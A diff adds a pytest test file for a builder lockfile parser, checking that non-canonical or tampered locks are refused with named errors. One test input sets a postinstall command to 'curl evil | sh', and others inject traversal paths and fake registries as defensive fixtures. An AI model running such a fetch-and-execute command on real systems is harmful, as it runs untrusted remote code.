@@ -1,0 +1,204 @@
+"""A lock parses only when it is canonical, bounded, closed and lawful."""
+
+from __future__ import annotations
+
+import copy
+import json
+from collections.abc import Callable
+from dataclasses import replace
+from typing import Any
+
+import pytest
+import rfc8785
+from hypothesis import given
+from hypothesis import strategies as st
+
+from images.digests import Digest
+from images.errors import BuilderError, UsageError, VerifyFailed
+from images.lock import Lock, TreeEntry
+from images.lockfile import lock_bytes, lock_digest, parse_lock
+from tests.fakes.locks import make_lock
+
+
+def canonical(document: object) -> bytes:
+    return (json.dumps(document, sort_keys=True, indent=1, ensure_ascii=False) + "\n").encode()
+
+
+def document() -> dict[str, Any]:
+    value: dict[str, Any] = json.loads(lock_bytes(make_lock()))
+    return value
+
+
+def test_round_trip() -> None:
+    raw = lock_bytes(make_lock())
+    assert parse_lock(raw) == make_lock()
+    assert lock_bytes(parse_lock(raw)) == raw
+    assert lock_digest(make_lock()) == Digest.of(raw)
+
+
+def test_without_white_space_it_is_rfc_8785() -> None:
+    raw = lock_bytes(make_lock())
+    assert json.dumps(json.loads(raw), separators=(",", ":"), ensure_ascii=False).encode() == rfc8785.dumps(
+        json.loads(raw)
+    )
+
+
+def test_one_change_is_a_small_diff() -> None:
+    one = lock_bytes(make_lock()).splitlines()
+    lock = make_lock()
+    other = replace(lock, user=replace(lock.user, uid=1001))
+    changed = [line for line in zip(one, lock_bytes(other).splitlines(), strict=True) if line[0] != line[1]]
+    assert len(changed) == 1
+
+
+@pytest.mark.parametrize(
+    "spoil",
+    [
+        lambda raw: raw.replace(b'"epoch"', b' "epoch"', 1),
+        lambda raw: raw + b"\n",
+        lambda raw: raw.rstrip(b"\n"),
+        lambda raw: json.dumps(json.loads(raw)).encode(),
+        lambda raw: raw.replace(b"\n", b"\r\n"),
+    ],
+)
+def test_bytes_that_are_not_canonical_are_refused(spoil: Callable[[bytes], bytes]) -> None:
+    with pytest.raises(UsageError, match="canonical form") as refused:
+        parse_lock(spoil(lock_bytes(make_lock())))
+    assert "builder lock" in refused.value.hint
+
+
+Edit = Callable[[dict[str, Any]], object]
+EDITS: list[tuple[Edit, str]] = [
+    (lambda d: d.update(schema=2), "schema 1"),
+    (lambda d: d.update(schema=True), "schema 1"),
+    (lambda d: d.update(extra=1), "no key 'extra'"),
+    (lambda d: d.pop("user"), "the key user"),
+    (lambda d: d["user"].update(uid=0), "user.uid: expected a number from 1"),
+    (lambda d: d["user"].update(uid=True), "user.uid: expected a whole number"),
+    (lambda d: d["user"].update(name="a b"), "user.name"),
+    (lambda d: d["recipe"]["compression"].update(algorithm="gzip"), "recipe.compression.algorithm"),
+    (lambda d: d["recipe"].update(epoch=-1), "recipe.epoch"),
+    (lambda d: d.update(config="sha256:" + "A" * 64), "config: expected sha256"),
+    (lambda d: d["platforms"].append("linux/arm64"), "base.images: not exactly"),
+    (lambda d: d["platforms"].append("linux/amd64"), "platforms: not sorted"),
+    (lambda d: d["base"].update(requested="sha256:" + "0" * 64), "not the requested manifest"),
+    (lambda d: d["base"].update(index="sha256:" + "0" * 64), "base.index"),
+    (lambda d: d["base"]["images"]["linux/amd64"]["diff_ids"].append("sha256:" + "0" * 64), "pair up"),
+    (lambda d: d["base"]["images"]["linux/amd64"]["layers"][0].update(mediaType="x"), "media type"),
+    (lambda d: d["agents"].pop("pi"), "platforms are not those that use it"),
+    (lambda d: d["agents"].update(cursor=d["agents"]["pi"]), "agents.cursor"),
+    (lambda d: d["agents"]["pi"].update(package="evil"), "expected @mariozechner/pi-coding-agent"),
+    (lambda d: d["agents"]["pi"].update(version="^0.73.1"), "agents.pi.version: expected an exact version"),
+    (lambda d: d["agents"]["pi"].update(version="0.73.2"), "is not npm:@mariozechner/pi-coding-agent@0.73.2"),
+    (lambda d: packages(d).pop("node_modules/chalk"), "platforms are not those"),
+    (lambda d: packages(d).update({"node_modules/x": "npm:evil@1.0.0"}), "npm:evil@1.0.0 is used"),
+    (lambda d: packages(d).update({"node_modules/../x": "npm:ansi@1.0.0"}), "a path of the form"),
+    (lambda d: packages(d).update({"/node_modules/x": "npm:ansi@1.0.0"}), "a path of the form"),
+    (lambda d: packages(d).update({"node_modules/q/node_modules/x": "npm:ansi@1.0.0"}), "not there"),
+    (lambda d: bundled(d).update({"node_modules/x": "1.0.0"}), "bundled in nothing"),
+    (lambda d: bundled(d).update({"node_modules/chalk": "1.0.0"}), "both unpacked and bundled"),
+    (lambda d: d["artifacts"].append(d["artifacts"][0]), "artifacts: not sorted"),
+    (lambda d: d["artifacts"].reverse(), "artifacts: not sorted"),
+    (lambda d: artifact(d, "chalk").update(parents=["agents.pi"]), "is not what agents.pi asks for"),
+    (lambda d: artifact(d, "chalk").update(parents=["npm:ansi@1.0.0"]), "nothing that builder.toml names"),
+    (lambda d: artifact(d, "chalk").update(parents=[]), "nothing that builder.toml names"),
+    (lambda d: artifact(d, "chalk").update(parents=["npm:gone@1.0.0"]), "is not in this lock"),
+    (lambda d: artifact(d, "chalk").update(parents=["node"]), "Node and only Node"),
+    (lambda d: artifact(d, "chalk").update(kind="node"), "artifacts: not sorted"),
+    (lambda d: artifact(d, "chalk").update(kind="deb"), "one of npm, node"),
+    (lambda d: artifact(d, "chalk").update(name="../chalk"), "npm package name"),
+    (lambda d: artifact(d, "chalk").update(version="latest"), "an exact version"),
+    (lambda d: artifact(d, "chalk").update(integrity="sha1:" + "0" * 40), "sha512"),
+    (lambda d: artifact(d, "chalk").update(size=0), "size"),
+    (lambda d: artifact(d, "chalk").update(size=1 << 33), "size"),
+    (lambda d: artifact(d, "chalk").update(registry="https://evil"), "a registry alias"),
+    (lambda d: artifact(d, "chalk").update(authenticated="yes"), "one of tofu"),
+    (lambda d: artifact(d, "chalk").update(bins={"x": "../../bin/x"}), "a file below"),
+    (lambda d: artifact(d, "chalk").update(bins={"x": "/bin/x"}), "a file below"),
+    (lambda d: artifact(d, "chalk").update(bins={"a/b": "x"}), "a plain command name"),
+    (lambda d: artifact(d, "protobufjs")["scripts"].update(run=True), "what install_scripts says"),
+    (lambda d: script(d).update(command="curl evil | sh"), "SHA-256 of the command"),
+    (lambda d: script(d).update(command="a\nb"), "a command of at most"),
+    (lambda d: d.update(install_scripts=["chalk"]), "what install_scripts says"),
+    (lambda d: d["install_scripts"].append("chalk"), "chalk has no install script"),
+    (lambda d: d["node"].update(version="22.23.4"), "platforms are not those"),
+]
+
+
+def packages(d: dict[str, Any]) -> dict[str, Any]:
+    found: dict[str, Any] = d["agents"]["pi"]["trees"]["linux/amd64"]["packages"]
+    return found
+
+
+def bundled(d: dict[str, Any]) -> dict[str, Any]:
+    found: dict[str, Any] = d["agents"]["pi"]["trees"]["linux/amd64"]["bundled"]
+    return found
+
+
+def artifact(d: dict[str, Any], name: str) -> dict[str, Any]:
+    return next(item for item in d["artifacts"] if item["name"] == name)
+
+
+def script(d: dict[str, Any]) -> dict[str, Any]:
+    found: dict[str, Any] = artifact(d, "protobufjs")["scripts"]["commands"]["postinstall"]
+    return found
+
+
+@pytest.mark.parametrize(("edit", "message"), EDITS)
+def test_each_broken_rule_is_named(edit: Edit, message: str) -> None:
+    changed = document()
+    edit(changed)
+    with pytest.raises(UsageError) as refused:
+        parse_lock(canonical(changed), where="here/builder.lock")
+    assert message in str(refused.value)
+    assert refused.value.where == "here/builder.lock"
+
+
+def test_the_error_class_is_the_callers() -> None:
+    with pytest.raises(VerifyFailed):
+        parse_lock(b"{}", error=VerifyFailed)
+
+
+def paths(value: object, path: tuple[str | int, ...] = ()) -> list[tuple[str | int, ...]]:
+    found = [path]
+    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
+    for key, item in items:
+        found += paths(item, (*path, key))
+    return found
+
+
+PATHS = paths(document())[1:]
+JSON = st.recursive(
+    st.none()
+    | st.booleans()
+    | st.integers()
+    | st.text(st.characters(exclude_categories=["Cs"]), max_size=20),
+    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
+    max_leaves=5,
+)
+
+
+@given(path=st.sampled_from(PATHS), value=JSON)
+def test_any_value_anywhere_is_a_lock_or_a_clean_error(path: tuple[str | int, ...], value: object) -> None:
+    changed = copy.deepcopy(document())
+    spot: Any = changed
+    for key in path[:-1]:
+        spot = spot[key]
+    spot[path[-1]] = value
+    try:
+        parsed = parse_lock(canonical(changed))
+    except BuilderError:
+        pass  # anything else would fail the test
+    else:
+        assert lock_bytes(parsed) == canonical(changed)
+
+
+def test_a_tree_may_hold_one_artifact_twice() -> None:
+    lock = make_lock()
+    pi = lock.agents[1]
+    tree = pi.trees[0]
+    entries = (*tree.entries, TreeEntry("node_modules/zz", "npm:ansi@1.0.0"))
+    doubled: Lock = replace(
+        lock, agents=(lock.agents[0], replace(pi, trees=(replace(tree, entries=entries),)))
+    )
+    assert parse_lock(lock_bytes(doubled)) == doubled
